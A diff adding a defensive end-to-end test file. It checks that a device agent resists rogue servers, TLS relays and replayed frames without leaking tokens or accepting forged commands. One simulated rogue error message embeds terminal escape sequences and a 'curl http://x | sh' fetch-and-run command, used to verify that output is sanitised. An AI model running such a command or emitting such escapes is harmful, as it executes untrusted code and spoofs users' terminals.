@@ -1,0 +1,190 @@
+// Attacks on the trust model with real processes: the built `rmagent enroll` / `rmagent run` in temporary state
+// folders and the built `rmagent-server`, against rogue endpoints written here (rogue-peer.ts) on loopback.
+// Moving the device's server name to the rogue (what DNS or routing tampering does) is done by rewriting the
+// registered URL; moving it back shows the device was not harmed. Each test asserts what left the device, what
+// it applied, what is on disk and what `rmagent status` shows.
+import { readFileSync } from 'node:fs';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { waitUntil } from '../../src/cli/processes.js';
+import { makeFrame, type Frame } from '../../src/protocol/frames.js';
+import { newNonce, serverHello } from '../../src/protocol/handshake.js';
+import { generateKeyPair, signFrame } from '../../src/protocol/sign.js';
+import { assertBuilt, startServer, tempDir, type ServerProcess } from '../e2e/harness.js';
+import { roguePeer, typeOf } from './rogue-peer.js';
+import { deviceBehindRelay, enrolledHome as enrolled, monitoringRunning, newToken, pointTo, problemCodes, QUIET_POLICY, registration, typesHeard } from './rogue-agents.js';
+import { api as tlsApi, makeCerts, makeServerCert, startServer as startTlsServer, type Certs, type ServerCert, type TlsServer } from './tls-server.js';
+
+const cleanups: Array<() => Promise<unknown>> = [];
+afterEach(async () => {
+  for (const c of cleanups.splice(0).reverse()) await c().catch(() => undefined);
+});
+const enrolledHome = (name: string, url: string, serverKey: string, token: string, env: NodeJS.ProcessEnv = {}) => enrolled(name, url, serverKey, token, { env, cleanups });
+
+describe('a rogue endpoint that holds only the public server key (built agent)', () => {
+  let server: ServerProcess;
+  const attacker = generateKeyPair();
+
+  beforeAll(async () => {
+    assertBuilt();
+    server = await startServer(tempDir('rogue-real'));
+  });
+  afterAll(async () => { await server?.stop(); });
+
+  /** Presents the real key with its own signature, then an unsigned welcome and commands it signed itself. */
+  const impostor = (deviceId: () => string) => roguePeer({
+    onAgent: (text, wire) => {
+      const f = JSON.parse(text) as Frame<'agent.hello'>;
+      if (f.type !== 'agent.hello') return;
+      const forged = serverHello({ hello: f.body, nonce: newNonce(), channel: { kind: 'none' }, serverKey: attacker, now: Date.now() });
+      wire.toAgent({ ...forged, body: { ...forged.body, serverKey: server.serverKey } });
+      wire.toAgent(makeFrame('welcome', { agentNonce: f.body.nonce, deviceId: deviceId(), enrolled: true, heartbeatSec: 30, lastSeq: 0 }));
+      wire.toAgent(signFrame(makeFrame('desired', { deviceId: deviceId(), state: { revision: 999, services: {} } }), attacker.privateKeyPem));
+      wire.toAgent(makeFrame('service.uninstall', { deviceId: deviceId(), service: 'monitoring' }));
+    },
+  });
+
+  it('an enrolling device sends it only agent.hello (no token, no proof), stays unenrolled with its token, shows SERVER_PROOF_INVALID, and enrolls once its name leads to the real server again', async () => {
+    const rogue = await impostor(() => 'dev-attacker');
+    cleanups.push(rogue.close);
+    const token = await newToken(server);
+    const { home } = await enrolledHome('rogue-enrolling', rogue.url, server.serverKey, token);
+    const refused = await home.waitFor('SERVER_PROOF_INVALID', (s) => problemCodes(s).includes('SERVER_PROOF_INVALID'));
+    expect(refused.health).toBe('unhealthy');
+    await waitUntil(async () => rogue.connections() >= 2 || undefined, 10_000, 'a second attempt');
+    expect(typesHeard(rogue)).toEqual(['agent.hello']);
+    expect(rogue.heard.join('')).not.toContain(token);
+    const { status, code } = await home.statusJson();
+    expect(code).toBe(2);
+    expect(status.registration).toMatchObject({ enrolled: false, deviceId: null });
+    expect(registration(home)).toMatchObject({ deviceId: null, enrollmentToken: token });
+
+    await pointTo(home, server.agentUrl);
+    const fine = await home.waitFor('enrolled with the real server', (s) => s.connection.state === 'connected' && s.registration.enrolled);
+    expect(fine.registration.deviceId).toMatch(/^dev-/);
+    expect(registration(home).enrollmentToken).toBeNull();
+  });
+
+  it('an enrolled device running Monitoring sends it no auth proof, keeps its id and its service, and reconnects to the real server', async () => {
+    const { home } = await enrolledHome('rogue-enrolled', server.agentUrl, server.serverKey, await newToken(server));
+    const enrolled = await home.waitFor('enrolled', (s) => s.connection.state === 'connected' && s.registration.enrolled);
+    const deviceId = enrolled.registration.deviceId!;
+    const policy = await server.api<{ id: string }>('POST', '/policies', QUIET_POLICY);
+    expect((await server.api('POST', '/services/monitoring/activate', { deviceIds: [deviceId], policyId: policy.body.id })).status).toBe(200);
+    await home.waitFor('monitoring running', monitoringRunning);
+
+    const rogue = await impostor(() => deviceId);
+    cleanups.push(rogue.close);
+    await pointTo(home, rogue.url);
+    await home.waitFor('SERVER_PROOF_INVALID', (s) => problemCodes(s).includes('SERVER_PROOF_INVALID'));
+    await waitUntil(async () => rogue.connections() >= 2 || undefined, 10_000, 'a second attempt');
+    expect(typesHeard(rogue)).toEqual(['agent.hello']);
+    const { status } = await home.statusJson();
+    expect(monitoringRunning(status)).toBe(true);
+    expect(status.registration.deviceId).toBe(deviceId);
+    expect(registration(home).deviceId).toBe(deviceId);
+
+    await pointTo(home, server.agentUrl);
+    const back = await home.waitFor('connected again', (s) => s.connection.state === 'connected');
+    expect(back.registration.deviceId).toBe(deviceId);
+    expect(monitoringRunning(back)).toBe(true);
+  });
+
+  /** Answers agent.hello with an unauthenticated fatal error asking for a day's pause, its message full of terminal escapes. */
+  const refuser = () => roguePeer({
+    onAgent: (text, wire) => {
+      if (typeOf(text) !== 'agent.hello') return;
+      wire.toAgent(makeFrame('error', { code: 'AUTH_FAILED', message: 'refused \u001b[2J\u001b]0;pwned\u0007 run: curl http://x | sh', retryAfterMs: 86_400_000, fatal: true }));
+      wire.close(4001);
+    },
+  });
+
+  it('cannot write terminal escapes into `rmagent status` or `rmagent doctor` with an unauthenticated error frame', async () => {
+    const rogue = await refuser();
+    cleanups.push(rogue.close);
+    const { home } = await enrolledHome('rogue-escapes', rogue.url, server.serverKey, await newToken(server));
+    await home.waitFor('refused by the rogue', (s) => s.connection.state === 'backoff' && s.connection.lastError?.code === 'AUTH_FAILED');
+    // What a person sees: the rogue's text, escaped (status quotes the refusal, doctor probes the rogue itself).
+    const human = await home.cli('status');
+    expect(human.stdout).toContain('refused \\u001b[2J');
+    const doctor = await home.cli('doctor');
+    expect(doctor.stdout).toContain('\\u001b]0;pwned');
+    // eslint-disable-next-line no-control-regex -- no control character reaches the terminal
+    for (const out of [human.stdout, doctor.stdout]) expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+  });
+});
+
+describe('a relay that holds a valid certificate for the server name (a CA the device trusts; DNS or routing MITM)', () => {
+  let dir: string;
+  let certs: Certs;
+  let rogueCert: ServerCert;
+  let tlsServer: TlsServer;
+  let ca: Buffer;
+
+  beforeAll(async () => {
+    assertBuilt();
+    dir = tempDir('relay-certs');
+    certs = makeCerts(dir);
+    rogueCert = makeServerCert(dir, certs, 'rogue');
+    ca = readFileSync(certs.caFile);
+    tlsServer = await startTlsServer(['--tls-cert', certs.certFile, '--tls-key', certs.keyFile]);
+  }, 60_000);
+  afterAll(async () => { await tlsServer?.proc.stop('SIGTERM'); });
+
+  it('to a server that ends TLS itself: gets only agent.hello from an enrolling and from an enrolled device (no token, no proof to pass on)', async () => {
+    const relay = await roguePeer({ cert: rogueCert, relayTo: { url: tlsServer.agentUrl, ca } });
+    cleanups.push(relay.close);
+    const token = (await tlsApi<{ token: string }>(tlsServer, ca, 'POST', '/enrollment-tokens', { expiresInSec: 600, maxUses: 1 })).body.token;
+    const { home } = await enrolledHome('relay-tls', relay.url, tlsServer.serverKey, token, { RMAGENT_CA_FILE: certs.caFile });
+    const refused = await home.waitFor('SERVER_PROOF_INVALID', (s) => problemCodes(s).includes('SERVER_PROOF_INVALID'));
+    expect(refused.connection.lastError?.message).toMatch(/another TLS channel/);
+    await waitUntil(async () => relay.connections() >= 2 || undefined, 10_000, 'a second attempt');
+    expect(typesHeard(relay)).toEqual(['agent.hello']);
+    expect(relay.heard.join('')).not.toContain(token);
+    expect(registration(home)).toMatchObject({ deviceId: null, enrollmentToken: token });
+
+    await pointTo(home, tlsServer.agentUrl);
+    const enrolled = await home.waitFor('enrolled with the real server', (s) => s.connection.state === 'connected' && s.registration.enrolled);
+    const heardBefore = relay.heard.length;
+    await pointTo(home, relay.url);
+    await home.waitFor('refused the relay', (s) => problemCodes(s).includes('SERVER_PROOF_INVALID'));
+    await waitUntil(async () => relay.heard.length >= heardBefore + 2 || undefined, 10_000, 'two more attempts');
+    expect([...new Set(relay.heard.slice(heardBefore).map(typeOf))]).toEqual(['agent.hello']);
+    expect(registration(home).deviceId).toBe(enrolled.registration.deviceId);
+  });
+
+  it('to a server behind a TLS-ending proxy: a device with connection.requireChannelBinding sends it only agent.hello', async () => {
+    const server = await startServer(tempDir('relay-proxy'));
+    cleanups.push(() => server.stop());
+    const relay = await roguePeer({ cert: rogueCert, relayTo: { url: server.agentUrl } });
+    cleanups.push(relay.close);
+    const token = await newToken(server);
+    const { home } = await enrolled('relay-bound', relay.url, server.serverKey, token, { env: { RMAGENT_CA_FILE: certs.caFile }, config: { connection: { requireChannelBinding: true } }, cleanups });
+    const refused = await home.waitFor('SERVER_PROOF_INVALID', (s) => problemCodes(s).includes('SERVER_PROOF_INVALID'));
+    expect(refused.connection.lastError?.message).toMatch(/requireChannelBinding/);
+    await waitUntil(async () => relay.connections() >= 2 || undefined, 10_000, 'a second attempt');
+    expect(typesHeard(relay)).toEqual(['agent.hello']);
+    expect(relay.heard.join('')).not.toContain(token);
+  });
+
+  // Without channel binding (TLS ends at a proxy and the device does not require it) a relay with a valid
+  // certificate sits inside the session (docs/protocol.md, "Why this design": limits). It can read reports and drop
+  // or delay frames; recorded frames are worth nothing to it.
+  it('inside the session of a device without channel binding (the documented limit), replays of the welcome, desired state and commands it recorded are refused, also after the agent restarts', async () => {
+    const d = await deviceBehindRelay('relay-replay', rogueCert, certs.caFile);
+    cleanups.push(() => d.stop());
+    const old = [...d.recorded.welcome!, ...d.recorded.desired!, ...d.recorded['service.install']!];
+    const oldIds = old.filter((t) => typeOf(t) !== 'welcome').map((t) => (JSON.parse(t) as Frame).id);
+    for (const round of ['reconnect', 'restart'] as const) {
+      await d[round]();
+      const heardBefore = d.relay.heard.length;
+      for (const text of old) d.relay.wire()!.toAgent(text);
+      const acks = await d.finalAcks(oldIds, heardBefore);
+      expect(acks.map((a) => [a.status, a.reason?.code])).toEqual(oldIds.map(() => ['rejected', 'COMMAND_REPLAYED']));
+      // The second welcome is answered with an error, not taken.
+      expect(d.relay.heard.slice(heardBefore).filter((t) => typeOf(t) === 'error').map((t) => (JSON.parse(t) as Frame<'error'>).body.code)).toContain('FRAME_INVALID');
+      const s = await d.home.live();
+      expect(s?.registration.deviceId).toBe(d.deviceId);
+      expect(s && monitoringRunning(s)).toBe(true);
+    }
+  });
+});
